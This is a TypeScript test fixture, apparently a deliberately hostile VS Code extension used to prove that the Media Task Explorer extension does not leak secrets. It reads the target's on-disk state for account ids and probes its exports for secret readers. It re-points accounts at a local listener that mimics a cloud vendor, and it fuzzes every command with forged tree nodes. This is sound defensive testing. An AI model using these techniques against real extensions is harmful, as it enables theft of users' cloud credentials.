/**
 * A hostile extension, for the exfiltration proof only (test/exfiltration). Installed next to Media
 * Task Explorer in the same extension host, it tries everything any installed extension can:
 *  - `getExtension(<ours>).exports`, walked to every reachable object, calling whatever looks like a
 *    secret reader and trying to add or re-point an account at its own listener and refresh it;
 *  - its own SecretStorage under our keys (VS Code keeps each extension's apart);
 *  - every command ours contributes or registers, with no argument and with crafted ones: our
 *    account and task ids, look-alike tree nodes of every kind, accounts and endpoints pointing at
 *    the listener, task keys, URIs;
 *  - the files ours leaves readable on disk (global state database, ledger), from which it also
 *    learns the real account and task ids it uses in the crafted arguments.
 * Everything it got back (return values, exports, clipboard, files) is reported as loot; the test
 * searches it for secrets, and the listener's log shows whether a signed request ever reached it.
 */
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as path from 'node:path';
import * as vscode from 'vscode';

export interface ListenerHit {
  readonly method: string;
  readonly url: string;
  readonly signed: boolean;
  readonly headers: Record<string, string | string[] | undefined>;
}

export interface AttackReport {
  /** What was read from disk to aim the attack. */
  readonly intel: { accountIds: string[]; taskKeys: Array<{ accountId: string; product: string; taskId: string }>; files: string[] };
  readonly exportsType: string;
  /** Every attempt, one line each ("command mediaTasks.x (forged task node): resolved undefined"). */
  readonly attempts: string[];
  /** Every string the attempts got back, for the test to search for secrets. */
  readonly loot: string[];
  readonly commandsTried: string[];
  readonly listenerUrl: string;
}

export interface Attacker {
  /** What it can read of the target's on disk now (ids to aim with). */
  peek(target: string): Promise<AttackReport['intel']>;
  /** Every request the listener received so far. */
  listenerHits(): Promise<ListenerHit[]>;
  attack(target: string): Promise<AttackReport>;
}

const SETTLE_MS = 500;

function startListener(): Promise<{ url: string; hits: ListenerHit[]; close(): void }> {
  const hits: ListenerHit[] = [];
  const server = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const url = req.url ?? '';
      const signed = Boolean(req.headers.authorization) || /[?&]Signature=/i.test(url) || Object.keys(req.headers).some((h) => h.startsWith('x-tc-'));
      hits.push({ method: req.method ?? '', url, signed, headers: req.headers });
      // Answer like a vendor, so a client that did call would carry on calling.
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify({ Response: { RequestId: 'attacker', TaskList: [], ScrollToken: '' }, Code: 0, Message: 'success', Data: { TaskList: [] } }));
    });
  });
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      const port = typeof address === 'object' && address ? address.port : 0;
      resolve({ url: `http://127.0.0.1:${port}`, hits, close: () => server.close() });
    });
  });
}

const describe = (value: unknown): string => {
  if (value === undefined) return 'undefined';
  try {
    return JSON.stringify(value) ?? String(value);
  } catch {
    return String(value);
  }
};

/** Resolves with the outcome, or 'pending' when the call waits for a user who is not there. */
async function settle(promise: PromiseLike<unknown>): Promise<{ state: string; value?: unknown }> {
  let timer: NodeJS.Timeout | undefined;
  const timeout = new Promise<{ state: string }>((r) => (timer = setTimeout(() => r({ state: 'pending' }), SETTLE_MS)));
  const outcome = Promise.resolve(promise).then(
    (value) => ({ state: 'resolved', value }),
    (err: unknown) => ({ state: 'rejected', value: err instanceof Error ? `${err.name}: ${err.message}` : err }),
  );
  try {
    return await Promise.race([outcome, timeout]);
  } finally {
    clearTimeout(timer);
  }
}

/** Closes whatever UI a call opened (quick picks, input boxes), as a user walking away would. */
async function dismiss(): Promise<void> {
  for (const id of ['workbench.action.closeQuickOpen', 'notifications.clearAll']) await settle(vscode.commands.executeCommand(id));
}

function filesUnder(dir: string, depth = 0): string[] {
  if (depth > 2 || !fs.existsSync(dir)) return [];
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const full = path.join(dir, e.name);
    return e.isDirectory() ? filesUnder(full, depth + 1) : e.isFile() ? [full] : [];
  });
}

/** What any extension can read of ours on disk: the global state database and our storage folder. */
function readIntel(context: vscode.ExtensionContext, target: string, loot: string[]): AttackReport['intel'] {
  const globalStorage = path.dirname(context.globalStorageUri.fsPath);
  const files = [path.join(globalStorage, 'state.vscdb'), ...filesUnder(path.join(globalStorage, target))].filter((f) => fs.existsSync(f));
  const accountIds = new Set<string>();
  const taskKeys = new Map<string, { accountId: string; product: string; taskId: string }>();
  const visit = (value: unknown, depth: number): void => {
    if (depth > 12 || typeof value !== 'object' || value === null) return;
    const o = value as Record<string, unknown>;
    if (typeof o.accountId === 'string') accountIds.add(o.accountId);
    if (typeof o.accountId === 'string' && typeof o.product === 'string' && typeof o.taskId === 'string') {
      taskKeys.set(`${o.accountId}/${o.product}/${o.taskId}`, { accountId: o.accountId, product: o.product, taskId: o.taskId });
    }
    for (const child of Object.values(o)) visit(child, depth + 1);
  };
  for (const file of files) {
    const text = fs.readFileSync(file).toString('latin1');
    loot.push(text);
    for (const m of text.matchAll(/"(?:id|accountId)":"(a[0-9a-f]{12})"/g)) accountIds.add(m[1]!);
    // A JSON file, or JSON Lines (one record a line); the state database is neither.
    for (const chunk of [text, ...text.split('\n')]) {
      try {
        visit(JSON.parse(chunk), 0);
      } catch {
        /* not JSON */
      }
    }
  }
  return { accountIds: [...accountIds], taskKeys: [...taskKeys.values()].slice(0, 6), files };
}

/** Every value reachable from `root` (own and inherited properties, getters read), with its path. */
function reachable(root: unknown): Array<{ path: string; value: unknown; owner: unknown }> {
  const out: Array<{ path: string; value: unknown; owner: unknown }> = [];
  const seen = new Set<unknown>();
  const queue: Array<{ path: string; value: unknown; owner: unknown }> = [{ path: 'exports', value: root, owner: undefined }];
  while (queue.length > 0 && out.length < 50_000) {
    const item = queue.shift()!;
    out.push(item);
    const { value } = item;
    if (value === null || (typeof value !== 'object' && typeof value !== 'function') || seen.has(value)) continue;
    seen.add(value);
    const names = new Set<string>();
    for (let o: object | null = value as object; o && o !== Object.prototype && o !== Function.prototype; o = Object.getPrototypeOf(o)) {
      for (const name of Object.getOwnPropertyNames(o)) if (!['caller', 'callee', 'arguments', 'constructor'].includes(name)) names.add(name);
    }
    for (const name of names) {
      try {
        queue.push({ path: `${item.path}.${name}`, value: (value as Record<string, unknown>)[name], owner: value });
      } catch {
        /* a getter that throws */
      }
    }
  }
  return out;
}

export function activate(context: vscode.ExtensionContext): Attacker {
  const listening = startListener();
  context.subscriptions.push({ dispose: () => void listening.then((l) => l.close()) });
  return {
    peek: async (target) => readIntel(context, target, []),
    listenerHits: async () => [...(await listening).hits],
    async attack(target: string): Promise<AttackReport> {
      const listener = await listening;
      const attempts: string[] = [];
      const loot: string[] = [];
      const record = async (what: string, call: () => PromiseLike<unknown> | unknown): Promise<unknown> => {
        let outcome: { state: string; value?: unknown };
        try {
          outcome = await settle(Promise.resolve().then(call));
        } catch (err) {
          outcome = { state: 'threw', value: String(err) };
        }
        const text = describe(outcome.value);
        loot.push(text);
        attempts.push(`${what}: ${outcome.state} ${text.slice(0, 120)}`);
        return outcome.value;
      };

      const extension = vscode.extensions.getExtension(target);
      if (!extension) throw new Error(`${target} is not installed`);
      const intel = readIntel(context, target, loot);
      const [accountId = 'a000000000000', otherId = accountId] = intel.accountIds;
      const key = intel.taskKeys[0] ?? { accountId, product: 'trtc-recording', taskId: 'no-task' };

      // 1. Exports, before and after activation.
      loot.push(describe(extension.exports));
      const exported = await record('activate() / exports', () => extension.activate());
      const exportsType = exported === undefined ? 'undefined' : typeof exported;
      const attackerAccount = {
        vendor: 'tencent',
        label: 'Attacker',
        site: 'intl',
        region: 'ap-singapore',
        endpoint: listener.url,
        cssEnabled: true,
        trtcSdkAppId: 1400000001,
      };
      for (const { path: where, value, owner } of reachable(exported)) {
        if (typeof value === 'string') loot.push(value);
        if (typeof value !== 'function') continue;
        const fn = value as (...args: unknown[]) => unknown;
        const name = where.split('.').pop() ?? '';
        if (/secret|token|credential|get$|list|all$|storedState/i.test(name)) {
          for (const id of intel.accountIds) await record(`${where}(${id})`, () => fn.call(owner, id));
          await record(`${where}()`, () => fn.call(owner));
        }
        if (name === 'add')
          await record(`${where}(account at the listener)`, () =>
            fn.call(owner, attackerAccount, { vendor: 'tencent', secretId: 'AKIDattacker', secretKey: 'attacker' }),
          );
        if (name === 'update') {
          for (const id of intel.accountIds)
            await record(`${where}(${id} re-pointed at the listener)`, () => fn.call(owner, { ...attackerAccount, id, label: 'Re-pointed' }));
        }
      }
      // Whatever the exports let it re-point, a refresh would now sign towards the listener.
      for (const { path: where, value, owner } of reachable(exported)) {
        const name = where.split('.').pop() ?? '';
        if (typeof value === 'function' && (name === 'refresh' || name === 'refreshAll')) {
          for (const k of intel.taskKeys) await record(`${where}(${k.taskId})`, () => (value as (...a: unknown[]) => unknown).call(owner, k));
        }
      }

      // 2. Our keys in its own SecretStorage: VS Code keeps each extension's secrets apart.
      for (const id of intel.accountIds) await record(`own secrets.get(mediaTasks.secret.${id})`, () => context.secrets.get(`mediaTasks.secret.${id}`));

      // 3. Every command, with every argument it might take.
      const contributed = ((extension.packageJSON as { contributes?: { commands?: Array<{ command: string }> } }).contributes?.commands ?? []).map(
        (c) => c.command,
      );
      const registered = (await vscode.commands.getCommands(true)).filter((id) => id.startsWith('mediaTasks.'));
      const commands = [...new Set([...contributed, ...registered])].sort();
      const accountNode = { kind: 'account', id: `account:${accountId}`, accountId, vendor: 'tencent' };
      const productNode = { kind: 'product', id: `${accountNode.id}/${key.product}`, accountId: key.accountId, product: key.product, parent: accountNode };
      const roomNode = { kind: 'room', id: `${productNode.id}/room`, accountId: key.accountId, product: key.product, room: 'room', parent: productNode };
      const taskNode = { kind: 'task', id: `${productNode.id}/${key.taskId}`, key, parent: roomNode };
      const crafted: Array<{ name: string; args: unknown[] }> = [
        { name: 'no argument', args: [] },
        { name: 'account id', args: [accountId] },
        { name: 'task id', args: [key.taskId] },
        { name: 'listener URL', args: [listener.url] },
        { name: 'listener URI', args: [vscode.Uri.parse(`${listener.url}/`)] },
        { name: 'forged account node', args: [accountNode] },
        { name: 'forged product node', args: [productNode] },
        { name: 'forged room node', args: [roomNode] },
        { name: 'forged task node', args: [taskNode] },
        { name: 'forged file node', args: [{ kind: 'file', id: `${taskNode.id}/f`, key, fileName: 'f.mp4', parent: taskNode }] },
        {
          name: 'forged error row',
          args: [{ kind: 'error', id: `${productNode.id}/error`, accountId, summary: 's', message: 'm', hint: 'h', auth: true, parent: productNode }],
        },
        { name: 'forged Load more row', args: [{ kind: 'loadMore', id: `${productNode.id}/more`, parent: productNode }] },
        { name: 'task key', args: [key] },
        { name: 'task key and file name', args: [key, 'f.mp4'] },
        { name: 'account at the listener', args: [{ ...attackerAccount, id: accountId }] },
        { name: 'account node with an endpoint', args: [{ ...accountNode, endpoint: listener.url, account: { ...attackerAccount, id: accountId } }] },
        { name: 'second account re-pointed', args: [{ kind: 'account', id: otherId, accountId: otherId, endpoint: listener.url }, { endpoint: listener.url }] },
      ];
      for (const command of commands) {
        for (const { name, args } of crafted) {
          await vscode.env.clipboard.writeText('');
          await record(`command ${command} (${name})`, () => vscode.commands.executeCommand(command, ...args));
          await dismiss();
          loot.push(await vscode.env.clipboard.readText());
        }
      }

      // 4. What it can read of ours on disk after all that.
      readIntel(context, target, loot);
      return { intel, exportsType, attempts, loot, commandsTried: commands, listenerUrl: listener.url };
    },
  };
}
